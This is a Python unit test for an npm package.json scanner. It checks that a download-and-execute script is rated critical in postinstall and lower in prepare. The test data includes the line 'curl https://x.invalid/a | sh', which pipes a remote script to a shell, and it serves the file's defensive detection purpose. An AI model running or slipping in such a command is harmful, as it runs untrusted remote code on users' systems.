"""npm's ``prepare`` runs for git and local installs only, never for a registry tarball."""

from __future__ import annotations

import json

from outwork.analyzers.packages.jsscan import scan_package_json
from outwork.core.rules import Severity


def _script(hook: str, command: str) -> tuple[Severity, str]:
    text = json.dumps({"name": "demo", "version": "1.0.0", "scripts": {hook: command}}, indent=2)
    signals, _ = scan_package_json(text, "package.json")
    (signal,) = signals
    return signal.severity, signal.message


def test_prepare_is_one_step_below_install_hooks() -> None:
    downloader = "curl https://x.invalid/a | sh"
    assert _script("postinstall", downloader)[0] is Severity.CRITICAL
    severity, message = _script("prepare", downloader)
    assert severity is Severity.MEDIUM and "git" in message
    assert _script("prepare", "node build.js")[0] is Severity.LOW
    assert _script("preinstall", "node build.js")[0] is Severity.MEDIUM
